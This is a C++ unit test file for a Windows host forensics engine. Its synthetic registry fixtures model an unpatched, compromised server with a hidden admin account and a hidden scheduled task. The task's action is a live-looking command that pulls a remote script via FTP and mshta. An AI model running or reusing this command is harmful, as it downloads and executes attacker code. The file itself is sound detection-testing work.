#include "detect/heuristics/windows_host.h"

#include <gtest/gtest.h>

#include <map>

#include "detect/heuristics/windows_persistence.h"
#include "normalize/windows_registry.h"
#include "support/regf_writer.h"

namespace msw::detect::heuristics {
namespace {
using test::RegKeySpec;
using test::RegValueSpec;

std::string u16(const std::string& s) {
  std::string out;
  for (char c : s) out += c, out += '\0';
  return out;
}
std::string u32(uint32_t v) {
  std::string s(4, '\0');
  for (int i = 0; i < 4; ++i) s[i] = static_cast<char>(v >> (8 * i));
  return s;
}
std::string str(const std::string& s) { return u32(static_cast<uint32_t>(s.size() * 2)) + u16(s); }

// Task Scheduler's Actions value: version 3, the context, one exec action.
std::string actions(const std::string& command, const std::string& args) {
  return std::string("\x03\x00", 2) + str("Author") + std::string("\x66\x66", 2) + str("") + str(command) + str(args) +
         str("") + std::string(2, '\0');
}

RegKeySpec software_hive(bool patched) {
  RegKeySpec cv{"CurrentVersion"};
  cv.values = {{"ProductName", 1, test::reg_sz("Windows Server 2008 R2 Enterprise")},
               {"CurrentVersion", 1, test::reg_sz("6.1")},
               {"CurrentBuild", 1, test::reg_sz("7601")},
               {"CSDVersion", 1, test::reg_sz("Service Pack 1")}};
  RegKeySpec tree{"Tree"};
  RegKeySpec mysa{"Mysa"};
  mysa.values = {{"Id", 1, test::reg_sz("{11111111-2222-3333-4444-555555555555}")}, {"Index", 4, test::reg_dword(3)}};
  RegKeySpec google{"GoogleUpdateTaskMachineCore"};
  google.values = {{"Id", 1, test::reg_sz("{66666666-2222-3333-4444-555555555555}")}, {"SD", 3, std::string(20, '\x01')}};
  tree.subkeys = {google};
  if (!patched) tree.subkeys.push_back(mysa);  // the compromised host's hidden task
  RegKeySpec tasks{"Tasks"};
  RegKeySpec t1{"{11111111-2222-3333-4444-555555555555}"};
  t1.values = {{"Path", 1, test::reg_sz("\\Mysa")},
               {"Actions", 3, actions("cmd.exe", "/c echo open ftp.ftp1202.site>s&echo test>>s&ftp -s:s&mshta http://js.mykings.top:280/v.sct")}};
  RegKeySpec t2{"{66666666-2222-3333-4444-555555555555}"};
  t2.values = {{"Actions", 3, actions("C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe", "/c")}};
  tasks.subkeys = {t2};
  if (!patched) tasks.subkeys.push_back(t1);
  RegKeySpec cache{"TaskCache"};
  cache.subkeys = {tree, tasks};
  RegKeySpec schedule{"Schedule"};
  schedule.subkeys = {cache};
  cv.subkeys = {schedule};
  RegKeySpec nt{"Windows NT"};
  nt.subkeys = {cv};
  RegKeySpec packages{"Packages"};
  RegKeySpec old{"Package_for_KB2533552~31bf3856ad364e35~amd64~~6.1.1.1"};
  old.values = {{"CurrentState", 4, test::reg_dword(0x70)}};
  RegKeySpec fix{"Package_for_KB4012212~31bf3856ad364e35~amd64~~6.1.1.0"};
  fix.values = {{"CurrentState", 4, test::reg_dword(patched ? 0x70 : 0x20)}};  // 0x20: resolved, not installed
  packages.subkeys = {old, fix};
  RegKeySpec cbs{"Component Based Servicing"};
  cbs.subkeys = {packages};
  RegKeySpec wcv{"CurrentVersion"};
  wcv.subkeys = {cbs};
  RegKeySpec windows{"Windows"};
  windows.subkeys = {wcv};
  RegKeySpec ms{"Microsoft"};
  ms.subkeys = {nt, windows};
  RegKeySpec root{"ROOT"};
  root.subkeys = {ms, RegKeySpec{"Classes"}};
  return root;
}

RegKeySpec system_hive(bool hardened) {
  RegKeySpec select{"Select"};
  select.values = {{"Current", 4, test::reg_dword(1)}};
  RegKeySpec params{"Parameters"};
  params.values = {{"SMB1", 4, test::reg_dword(hardened ? 0 : 1)}};
  RegKeySpec lanman{"LanmanServer"};
  lanman.subkeys = {params};
  RegKeySpec services{"Services"};
  services.subkeys = {lanman};
  RegKeySpec rdp{"RDP-Tcp"};
  rdp.values = {{"PortNumber", 4, test::reg_dword(hardened ? 43389 : 3389)}, {"UserAuthentication", 4, test::reg_dword(hardened ? 1 : 0)}};
  RegKeySpec stations{"WinStations"};
  stations.subkeys = {rdp};
  RegKeySpec ts{"Terminal Server"};
  ts.values = {{"fDenyTSConnections", 4, test::reg_dword(0)}};
  ts.subkeys = {stations};
  RegKeySpec control{"Control"};
  control.subkeys = {ts};
  RegKeySpec set{"ControlSet001"};
  set.subkeys = {control, services};
  RegKeySpec root{"ROOT"};
  root.subkeys = {select, set};
  return root;
}

std::vector<model::Finding> run(bool compromised) {
  auto host = make_windows_host_engine();
  auto persistence = make_windows_persistence_engine();
  std::vector<model::Finding> found;
  const std::vector<test::SamAccountSpec> accounts =
      compromised ? std::vector<test::SamAccountSpec>{{"Administrator", 500, false, true}, {"Guest", 501, true, false}, {"admin$", 1003, false, true}}
                  : std::vector<test::SamAccountSpec>{{"Administrator", 500, false, true}, {"Guest", 501, true, false}};
  for (const auto& [name, spec] : std::vector<std::pair<std::string, RegKeySpec>>{
           {"C/Windows/System32/config/SOFTWARE", software_hive(!compromised)},
           {"C/Windows/System32/config/SYSTEM", system_hive(!compromised)},
           {"C/Windows/System32/config/SAM", test::sam_root(accounts)}}) {
    const std::string bytes = test::write_hive(spec);
    Diagnostics d;
    std::vector<model::Event> events;
    EXPECT_TRUE(normalize::registry_hive_events(as_bytes(bytes), name, d, events));
    const ArtefactView view{name, "sha", "registry_hive", "windows", "", events};
    for (const auto& e : events) host->observe(view, e);
    persistence->scan_artefact(view, found);
  }
  host->finish(found);
  return found;
}

TEST(WindowsHost, UnpatchedExposedHostWithAHiddenAdminAndAHiddenTask) {
  std::map<std::string, std::pair<model::Severity, std::string>> by_rule;
  for (const auto& f : run(true)) by_rule[f.rule_id] = {f.severity, f.title_en};
  ASSERT_TRUE(by_rule.count(std::string(kMs17010MissingRule)));
  EXPECT_EQ(by_rule[std::string(kMs17010MissingRule)].first, model::Severity::High);
  EXPECT_EQ(by_rule[std::string(kMs17010MissingRule)].second,
            "MS17-010 (EternalBlue) not installed on Windows Server 2008 R2 Enterprise (build 7601)");
  EXPECT_EQ(by_rule[std::string(kSmb1EnabledRule)].first, model::Severity::Medium);
  EXPECT_EQ(by_rule[std::string(kRdpDefaultPortRule)].second,
            "Remote Desktop enabled on port 3389 without Network Level Authentication");
  EXPECT_EQ(by_rule[std::string(kLocalAccountRule)].first, model::Severity::High);
  EXPECT_TRUE(by_rule[std::string(kLocalAccountRule)].second.starts_with("Local account admin$"));
  ASSERT_TRUE(by_rule.count(std::string(kHiddenTaskRule)));
  EXPECT_TRUE(by_rule[std::string(kHiddenTaskRule)].second.starts_with("Scheduled task \\Mysa hidden"));
  EXPECT_NE(by_rule[std::string(kHiddenTaskRule)].second.find("mshta http://js.mykings.top:280/v.sct"), std::string::npos);
  EXPECT_EQ(by_rule[std::string(kTaskSuspiciousRule)].first, model::Severity::High);  // the cached action itself
}

TEST(WindowsHost, PatchedHardenedHostRaisesNothingAboveLow) {
  for (const auto& f : run(false)) {
    EXPECT_LE(static_cast<int>(f.severity), static_cast<int>(model::Severity::Low)) << f.title_en;
  }
}

TEST(WindowsHost, Ms17010ByVersionUpdateAndBuild) {
  EXPECT_TRUE(assess_ms17_010("6.1", "7601", "", "KB2533552,KB4012215", "").fixed);
  EXPECT_FALSE(assess_ms17_010("6.1", "7601", "", "KB2533552", "").fixed);
  EXPECT_TRUE(assess_ms17_010("6.1", "7601", "", "", "7601.24000").fixed);   // a later monthly rollup
  EXPECT_FALSE(assess_ms17_010("6.1", "7601", "", "", "7601.23600").fixed);  // an earlier one
  EXPECT_FALSE(assess_ms17_010("6.1", "7600", "", "KB4012212", "").fixed);   // no SP1: no update exists
  EXPECT_TRUE(assess_ms17_010("6.3", "9600", "", "KB4012216", "").fixed);
  EXPECT_TRUE(assess_ms17_010("6.3", "14393", "953", "", "").fixed);
  EXPECT_FALSE(assess_ms17_010("6.3", "14393", "447", "", "").fixed);
  EXPECT_FALSE(assess_ms17_010("6.3", "17763", "1", "", "").applicable);  // Windows 10 1809 shipped fixed
  EXPECT_TRUE(assess_ms17_010("5.2", "3790", "", "", "").applicable);
}

TEST(WindowsHost, TaskCacheAndTaskFolderAreReconciled) {
  auto task = [](std::string name, std::string source) {
    model::Event e;
    e.category = "scheduled_task";
    e.product = "windows";
    e.set(model::Field::TaskName, name);
    if (!source.empty()) e.set("TaskSource", source);
    return e;
  };
  const std::vector<model::Event> cache = {task("\\GoogleUpdateTaskMachineCore", "TaskCache"), task("\\Mysa", "TaskCache")};
  const std::vector<model::Event> files = {task("\\GoogleUpdateTaskMachineCore", ""), task("\\Dropped", "")};
  auto engine = make_windows_host_engine();
  for (const auto& e : cache) engine->observe({"SOFTWARE", "s", "registry_hive", "windows", "", cache}, e);
  for (const auto& e : files) engine->observe({"Tasks/x", "t", "scheduled_task", "windows", "", files}, e);
  std::vector<model::Finding> found;
  engine->finish(found);
  std::map<std::string, model::Severity> titles;
  for (const auto& f : found)
    if (f.rule_id == kTaskMismatchRule) titles[f.title_en] = f.severity;
  EXPECT_EQ(titles, (std::map<std::string, model::Severity>{
                        {"Scheduled task \\Mysa is registered but its task file is missing", model::Severity::Medium},
                        {"Task file \\Dropped is not registered in the TaskCache", model::Severity::Low}}));
}

}  // namespace
}  // namespace msw::detect::heuristics
